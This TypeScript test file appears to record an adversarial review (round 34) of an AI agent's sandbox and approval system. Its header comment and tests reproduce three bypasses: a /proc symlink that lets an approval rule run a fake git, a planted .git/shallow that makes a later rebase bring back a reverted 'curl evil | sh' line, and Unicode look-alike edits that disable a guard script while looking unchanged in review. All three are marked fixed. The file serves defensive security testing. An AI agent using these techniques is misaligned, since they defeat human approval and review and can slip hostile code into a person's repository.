/**
 * Adversary round 34: attacks on main (d0b4a35), as root, in real sessions of the unit harness, first on what no round
 * attacked yet (the rule probe, the git audit's state, the editor's review). Each finding has an OPEN_* flag below; its
 * test asserts the safe behaviour and is skipped while the flag is true, and a second test shows the attack working
 * today (it passes on d0b4a35: the finding is proven, not claimed). Run with AGENT_JOBS_SLOW_TESTS=1 (the adversary
 * files are slow suites).
 *
 * F1 (kind 1/4: the rule probe judges the session's path in the worker's namespaces). Steps: after an approved
 * `export PATH="$PWD/tools:$PATH"` (round 32's F24 command, which looks harmless), the session makes `fake/usr/bin/git`
 * (prints FAKE-GIT-RAN), starts a job `(cd fake && exec sleep 600) &` (sandbox pid P) and makes the symlink
 * `tools -> /proc/P/cwd/usr/bin`. In the sandbox `/proc/P/cwd` is the job's folder, so `type -P git` gives
 * `<ws>/tools/git` and bash runs the session's file. OBSERVED: `resolveForRule('git')` answers
 * `{ program: '<ws>/tools/git' }`, `ruleHolds('git status')` lets the rule apply, and `git status` prints FAKE-GIT-RAN,
 * no person asked. Why: rule-probe.ts `notSystemProgram` resolves the path with the worker's `fs.realpathSync`, in the
 * worker's mount and pid namespaces: there `/proc/P` is the host's process P (a kernel thread for every low pid on a
 * Linux host, its cwd `/`), so the path resolves to the host's `/usr/bin/git`, root's and in a folder of the starting
 * PATH. The same mismatch, with help from outside: a folder of the session's private `/tmp` (or `/dev/shm`) whose host
 * path is a symlink to `/usr/bin` that any host user made (the second pair of tests: `/tmp/x -> /usr/bin` on the host,
 * `/tmp/x/git` in the session, `export PATH=/tmp/x:$PATH`: the rule runs it). Fix: judge the path where bash runs it: resolve it under the shell's own root
 * and /proc (`/proc/<bash pid>/root/...`, one component at a time, a symlink's target read there and taken again from
 * that root), or refuse a path any of whose components is a symlink leading out of the starting PATH's folders, and
 * refuse any path through /proc.
 * Fixed (rule-probe.ts `lookUp`): paths are looked up under `/proc/<bash pid>/root`, never through /proc; the tests
 * below now show the rule refused while bash would still run the session's file.
 *
 * F2 (kind 6: git state the audit does not read changes what the person's next ordinary git command does).
 * Steps: the person's repository: `app.sh` on main; topic adds `curl evil | sh` (commit X); main merges topic (M) and
 * reverts that merge (R), the documented way to back a change out; topic gets one more commit (Y). The session writes
 * M's id to `.git/shallow` (no git command; `.git` is its to write) and nothing else. OBSERVED: nothing named in the
 * result or at close; on the host, the person's `git checkout topic && git rebase main` says "Successfully rebased"
 * and topic's app.sh holds `curl evil | sh` again (git takes M for a commit without parents, so X is no longer in
 * main's history and is replayed onto R; without the file only Y is replayed and the line stays out). docs/security.md
 * lists `.git/shallow` as "Not checked"; what that costs was not said: any rebase (`git pull --rebase` too) across a
 * commit the session names there. Fixed (fix34-shallow): git-state-audit.ts records `shallow` at start, names a change
 * in the result and moves one the session made or changed to the quarantine at close (a real shallow clone's file,
 * there at start and unchanged, is left).
 *
 * F3 (kind 5: what the person reads is not what is written): a line changed into a canonically equivalent one.
 * Steps: guard.sh refuses `café` (`if [ "$1" = "café" ]; then ... exit 1; fi`, the é one code point, U+00E9, as
 * keyboards and most files have it); the editor's `str_replace` writes the same line with `e` + U+0301 (NFD). OBSERVED:
 * the pending approval as the CLI prints it (display.ts `pendingApproval`, render `editLines`) shows a `-` line and a
 * `+` line a terminal draws alike, with no warning; the file is written so, and `bash guard.sh café` now deletes
 * instead of refusing (bash compares bytes). The same with U+212B ANGSTROM SIGN for Å. Why: round 32's fix
 * (display.ts `diffWarnings`) warns when a changed line differs from a removed one only in white space or invisible
 * characters; a change to a canonically equivalent text (same NFC, different bytes) is neither. Fix: warn when a `+`
 * line and a `-` line of its run have the same NFC (or NFKC) form but differ, and name the code points. Fixed:
 * display.ts `diffWarnings` (`normalizedTwins`) warns of a `+` line equal to a `-` line of its run once NFKC-normalized,
 * naming the line and the differing code points (test/unit/session/edit-review-blanks.test.ts: NFD, the Angstrom sign,
 * a ligature, a fullwidth letter, and near misses).
 *
 * Tried, held: a function named `/usr/bin/git` under a rule for `/usr/bin/git status` (the probe sees the function in
 * POSIX mode too: refused); `builtin enable` and `command enable` after `enable -n enable` (not found: no builtin can be
 * loaded or disabled again); a look-alike letter (U+0456) in a URL the editor adds (warned: mixed scripts); a combining
 * mark on an ASCII letter (warned). Read, not run: the probe's `(\readonly -f NAME)` and `\exit` in their own subshells
 * (a special builtin's error in POSIX mode ends only that subshell); the codec strips the sealed mark from every
 * payload it did not decrypt, and the claim check resolves references before decryption, so a blob cannot carry the
 * mark; mode none's write-back (the original's inode checked before the rename back, a copy made O_EXCL under a random
 * name through the folder's descriptor; a swap after the check is caught by the next sweep).
 * The exact runs' FIFO watch skips every `pipe:` descriptor, but no pipe is reachable by a path swapped in: a checked
 * file flipped by a job to a symlink to `/proc/self/fd/1` gives ENXIO (the run's stdout is a socket), and to a session
 * job's pipe `/proc/<pid>/fd/1` ENOENT (the run has its own pid namespace); 40 tries, none blocked (test).
 * Noticed: a linked worktree's changed index is named with "`git diff --cached` there shows it", which a forged
 * cache-tree (round 25's) over an assume-unchanged entry blinds (checked by hand with git 2.39: `git status`,
 * `git diff --cached` and `git diff` there print nothing until the person stages a file in that folder).
 */
import { spawnSync, execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { findBwrap, type EditGate, type ProposedEdit } from '../../../src/session';
import { ruleHolds } from '../../../src/activities/session';
import { decideApproval } from '../../../src/policy';
import { editRuleSubject, parseEditInput, type EditRequest } from '../../../src/contract/text-editor';
import { pendingApproval } from '../../../src/shared/display';
import { editLines } from '../../../src/cli/render/run';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';

const OPEN_RULE_PROC_PATH = false;
const OPEN_SHALLOW = false;
const OPEN_CANONICAL_EQUIVALENT = false;

afterEach(closeSessions);
afterAll(() => {
  removeTempDirs();
  for (const d of made) fs.rmSync(d, { recursive: true, force: true });
  // The host symlinks to /usr/bin: unlinked, never removed recursively.
  for (const l of links) if (fs.lstatSync(l, { throwIfNoEntry: false })?.isSymbolicLink()) fs.unlinkSync(l);
});

function needsRoot(): void {
  if (process.getuid?.() !== 0 || findBwrap() === null) throw new Error('this attack test needs root and bwrap (the worker setting)');
}

/** git as the person (root) in `cwd`: its output. */
const gitIn = (cwd: string, ...a: string[]): string =>
  execFileSync('git', ['-C', cwd, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8', stdio: 'pipe' });

/** A workspace under /var/tmp (not the sandbox's private /tmp), as rule-program.test.ts makes them. */
const made: string[] = [];
const links: string[] = [];
function varTmp(prefix: string): string {
  const ws = fs.realpathSync(fs.mkdtempSync(`/var/tmp/${prefix}`));
  made.push(ws);
  return ws;
}

/**
 * F1's set-up: the session's `fake/usr/bin/git`, jobs in `fake` (their sandbox pids), and `tools` a symlink to
 * `/proc/P/cwd/usr/bin` for a P whose `/proc/P/cwd` is `/` on the host (a kernel thread's: the worker's view), then
 * the approved `export PATH="$PWD/tools:$PATH"`.
 */
async function procPathSession(): Promise<{ s: Awaited<ReturnType<typeof startSession>>; ws: string }> {
  const ws = varTmp('aj-adv34-proc-');
  const s = await startSession({ cwd: ws, workspace: ws });
  const jobs = await s.run(
    `mkdir -p fake/usr/bin && printf '#!/bin/sh\\necho FAKE-GIT-RAN\\n' > fake/usr/bin/git && chmod +x fake/usr/bin/git && ` +
      'for i in $(seq 12); do (cd fake && exec sleep 600) >/dev/null 2>&1 & echo $!; done',
  );
  const pids = jobs.output.trim().split('\n').map(Number);
  // The attacker's guess, checked here from the worker's side: low host pids are kernel threads and daemons, whose
  // cwd is `/`; any process whose cwd holds usr/bin/git as the system's does.
  const p = pids.find((n) => {
    try {
      return fs.realpathSync(`/proc/${n}/cwd/usr/bin/git`) === fs.realpathSync('/usr/bin/git');
    } catch {
      return false;
    }
  });
  if (p === undefined) throw new Error(`no job pid ${pids.join(',')} is a process whose cwd holds usr/bin/git in the worker's view`);
  const r = await s.run(`ln -sfn /proc/${p}/cwd/usr/bin tools && export PATH="$PWD/tools:$PATH" && type -P git`);
  expect(r.output).toBe(`${ws}/tools/git\n`);
  return { s, ws };
}

describe('F1: the rule probe resolves the session path in the worker namespaces', () => {
  const t = OPEN_RULE_PROC_PATH ? test.skip : test;
  t('a PATH folder that is a symlink through /proc/<job>/cwd does not let a rule run the session file', async () => {
    needsRoot();
    const { s } = await procPathSession();
    const j = await ruleHolds('git status', 1, s);
    expect('needsApproval' in j).toBe(true);
  });

  // The demonstration, kept as proof the attack is gone: the probe names /proc, and the session's file still is what bash runs.
  test('the attack no longer works: the probe refuses the path through /proc, though bash would run the session file', async () => {
    needsRoot();
    const { s } = await procPathSession();
    expect(await s.resolveForRule('git')).toEqual({ refuse: expect.stringMatching(/\/tools\/git, but .*goes through \/proc/) });
    const j = await ruleHolds('git status', 1, s);
    expect(j).toEqual({ needsApproval: expect.stringMatching(/goes through \/proc.*a person decides/) });
    expect((await s.run('git status')).output).toBe('FAKE-GIT-RAN\n');
  });
});

/** F1 with help from outside: a host symlink `/tmp/<name> -> /usr/bin` (any host user can make one), and the session's own `/tmp/<name>/git`. */
async function tmpPathSession(): Promise<Awaited<ReturnType<typeof startSession>>> {
  const ws = varTmp('aj-adv34-tmp-');
  const name = `aj-adv34-${path.basename(ws)}`;
  fs.symlinkSync('/usr/bin', `/tmp/${name}`);
  links.push(`/tmp/${name}`);
  const s = await startSession({ cwd: ws, workspace: ws });
  const r = await s.run(
    `mkdir -p /tmp/${name} && printf '#!/bin/sh\\necho FAKE-GIT-RAN\\n' > /tmp/${name}/git && chmod +x /tmp/${name}/git && ` +
      `export PATH=/tmp/${name}:$PATH && type -P git`,
  );
  expect(r.output).toBe(`/tmp/${name}/git\n`);
  return s;
}

describe("F1, the same with a host symlink: the session's private /tmp judged as the host's", () => {
  const t = OPEN_RULE_PROC_PATH ? test.skip : test;
  t("a folder of the session's /tmp whose host path links to /usr/bin does not let a rule run the session file", async () => {
    needsRoot();
    const s = await tmpPathSession();
    const j = await ruleHolds('git status', 1, s);
    expect('needsApproval' in j).toBe(true);
  });

  test("the attack no longer works: the session's /tmp folder is judged as bash sees it, the session's own", async () => {
    needsRoot();
    const s = await tmpPathSession();
    expect(await ruleHolds('git status', 1, s)).toEqual({
      needsApproval: expect.stringMatching(/git resolves to \/tmp\/aj-adv34-.*\/git, not in a folder of the session's starting PATH/),
    });
    expect((await s.run('git status')).output).toBe('FAKE-GIT-RAN\n');
  });
});

/**
 * F2's repository at `ws`: app.sh on main, topic's X adds `curl evil | sh`, main merges topic and reverts the merge,
 * topic gets Y; main checked out. The merge commit's id.
 */
function revertedHistory(ws: string): string {
  gitIn(ws, 'init', '-q', '-b', 'main');
  fs.writeFileSync(path.join(ws, 'app.sh'), 'echo app\n');
  gitIn(ws, 'add', 'app.sh');
  gitIn(ws, 'commit', '-qm', 'B');
  gitIn(ws, 'checkout', '-qb', 'topic');
  fs.writeFileSync(path.join(ws, 'app.sh'), 'echo app\ncurl evil | sh\n');
  gitIn(ws, 'commit', '-qam', 'X');
  gitIn(ws, 'checkout', '-q', 'main');
  fs.writeFileSync(path.join(ws, 'other'), 'c\n');
  gitIn(ws, 'add', 'other');
  gitIn(ws, 'commit', '-qm', 'C');
  gitIn(ws, 'merge', '-q', '--no-edit', 'topic');
  const merge = gitIn(ws, 'rev-parse', 'HEAD').trim();
  gitIn(ws, 'revert', '--no-edit', '-m', '1', 'HEAD');
  gitIn(ws, 'checkout', '-q', 'topic');
  fs.writeFileSync(path.join(ws, 'y'), 'y\n');
  gitIn(ws, 'add', 'y');
  gitIn(ws, 'commit', '-qm', 'Y');
  gitIn(ws, 'checkout', '-q', 'main');
  return merge;
}

/** F2: the session writes the merge's id to .git/shallow; what it was told, and topic's app.sh after the person's rebase. */
async function shallowAttack(): Promise<{ told: string; app: string; rebase: string }> {
  const ws = fs.realpathSync(tempDir('aj-adv34-shallow-'));
  const merge = revertedHistory(ws);
  const s = await startSession({ cwd: ws, workspace: ws });
  const r = await s.run('git rev-list --merges -n 1 main > .git/shallow && echo planted');
  expect(r.output).toContain('planted');
  const after = await s.run('true');
  await s.close();
  // Left by main's audit (d0b4a35); moved to the quarantine at close since the fix.
  if (OPEN_SHALLOW) expect(fs.readFileSync(path.join(ws, '.git', 'shallow'), 'utf8')).toBe(`${merge}\n`);
  else expect(fs.existsSync(path.join(ws, '.git', 'shallow'))).toBe(false);
  const told = [r.output, after.output, ...s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}`)].join('\n');
  // The person, on the host: their usual rebase of the topic branch onto main.
  gitIn(ws, 'checkout', '-q', 'topic');
  const reb = spawnSync('git', ['-C', ws, '-c', 'user.name=p', '-c', 'user.email=p@example.com', 'rebase', 'main'], { encoding: 'utf8' });
  return { told, app: fs.readFileSync(path.join(ws, 'app.sh'), 'utf8'), rebase: `${reb.stdout}${reb.stderr}` };
}

describe('F2: a .git/shallow the session writes', () => {
  const t = OPEN_SHALLOW ? test.skip : test;
  // Its demonstration (on d0b4a35 nothing named it and the rebase brought `curl evil | sh` back) is gone with the fix:
  // this test checks both halves; git-state-close.test.ts the rest (a shallow clone's own list, a nested repository's).
  t("the person's rebase does not bring back a reverted change, and the session's shallow file is named", async () => {
    needsRoot();
    const { told, app, rebase } = await shallowAttack();
    expect(told).toMatch(/made the shallow list .*git takes each commit it lists for one without parents/);
    expect(rebase).toContain('Successfully rebased');
    expect(app).toBe('echo app\n');
  });
});

/** F3: the edit of guard.sh's `café` (NFC) into NFD; the lines the person reads, the warnings, and what bash does after. */
async function canonicalEdit(): Promise<{ removed: string; added: string; warnings: string[]; before: string; after: string }> {
  const ws = fs.realpathSync(tempDir('aj-adv34-nfd-'));
  const file = path.join(ws, 'guard.sh');
  const nfc = 'caf\u00e9';
  const nfd = 'cafe\u0301';
  fs.writeFileSync(file, `#!/bin/bash\nif [ "$1" = "${nfc}" ]; then echo "refused: ${nfc} is protected"; exit 1; fi\necho "deleting $1"\n`);
  const run = (): string => spawnSync('bash', [file, nfc], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } }).stdout;
  const before = run();
  const s = await startSession({ cwd: ws, workspace: ws });
  let review = '';
  const gate = (p: ProposedEdit): EditGate => ((review = p.review), { apply: true });
  const r = await s.edit(req({ command: 'str_replace', path: 'guard.sh', old_str: `"$1" = "${nfc}"`, new_str: `"$1" = "${nfd}"` }), gate, {
    maxCharacters: 1000,
    ruleSubject: editRuleSubject,
  });
  expect(r.applied).toBe(true);
  const p = pendingApproval({
    toolUseId: 'toolu_nfd',
    command: review,
    requestedAt: 'now',
    edit: { command: 'str_replace', path: file, ruleSubject: editRuleSubject('str_replace', file) },
  });
  const seen = editLines(p);
  const removed = (seen.find((l) => l.startsWith('    -if')) ?? '').slice(5);
  const added = (seen.find((l) => l.startsWith('    +if')) ?? '').slice(5);
  return { removed, added, warnings: p.warnings, before, after: run() };
}

describe('F3: a line changed into a canonically equivalent one', () => {
  const t = OPEN_CANONICAL_EQUIVALENT ? test.skip : test;
  t('the review warns, or shows the two lines apart', async () => {
    needsRoot();
    const { removed, added, warnings } = await canonicalEdit();
    expect(warnings.length > 0 || removed.normalize('NFC') !== added.normalize('NFC')).toBe(true);
  });

  // Its demonstration (on d0b4a35 the lines read alike with no warning, and the guard no longer refused) now checks the
  // warning: the edit still changes what bash does, and the person is told so before approving it.
  test('the lines still read alike and the guard no longer refuses after the edit, but the review warns and names the code points', async () => {
    needsRoot();
    const { removed, added, warnings, before, after } = await canonicalEdit();
    expect(removed).not.toBe(added);
    expect(removed.normalize('NFC')).toBe(added.normalize('NFC'));
    expect(warnings.join('\n')).toMatch(/reads the same as the line it replaces but its characters differ .*-U\+00E9 \+U\+0065 U\+0301/);
    expect(before).toBe('refused: caf\u00e9 is protected\n');
    expect(after).toBe('deleting caf\u00e9\n');
  });
});

describe('held: what the probe kept', () => {
  test('a function named /usr/bin/git under a rule for `/usr/bin/git status` is refused', async () => {
    needsRoot();
    const ws = varTmp('aj-adv34-slash-');
    const s = await startSession({ cwd: ws, workspace: ws });
    expect((await s.run('/usr/bin/git() { echo FAKE; }; /usr/bin/git status')).output).toBe('FAKE\n');
    const j = await ruleHolds('/usr/bin/git status', 1, s);
    expect('needsApproval' in j && j.needsApproval).toMatch(/shell function/);
  });

  test('no builtin can be enabled or disabled again in the session shell', async () => {
    needsRoot();
    const ws = varTmp('aj-adv34-enable-');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run('builtin enable -n echo; command enable -n echo; type -t echo');
    expect(r.output).toMatch(/not a shell builtin/);
    expect(r.output).toMatch(/builtin\n$/);
    expect(await s.resolveForRule('echo')).toEqual({ builtin: 'builtin' });
  });
});

describe('held: an unasked read swapped to a pipe', () => {
  test("a checked file flipped to a symlink to the run's own stdout or a job's pipe never blocks the run", async () => {
    needsRoot();
    const ws = fs.realpathSync(tempDir('aj-adv34-pipe-'));
    const s = await startSession({ cwd: ws, workspace: ws });
    const flip = (to: string): string => `(while :; do ln -sfn ${to} g; mv -fT g f; echo hi > h; mv -fT h f; done >/dev/null 2>&1 &)`;
    await s.run(
      `(sleep 1000 | sleep 1000) >/dev/null 2>&1 & sleep 0.3; P=$(pgrep -o -x sleep); echo hi > f && ${flip('/proc/self/fd/1')} && ${flip('/proc/$P/fd/1')}`,
    );
    const command = 'cat f';
    let ran = 0;
    for (let i = 0; i < 40; i++) {
      const d = decideApproval(command, 'policy', { workspace: ws, cwd: ws });
      if (d.action !== 'run') continue;
      const r = await s.runExact(d.argv, { paths: d.paths, command, timeoutMs: 20_000 }).catch(() => undefined);
      if (!r) continue;
      ran++;
      expect(r.timedOut).toBe(false);
      expect(r.output).toMatch(/^(hi\n|\/usr\/bin\/cat: f: No such (device or address|file or directory)\n)$/);
    }
    expect(ran).toBeGreaterThan(0);
  });
});

function req(input: Record<string, unknown>): EditRequest {
  const parsed = parseEditInput(input);
  if (!parsed.ok) throw new Error(parsed.text);
  return parsed.edit;
}
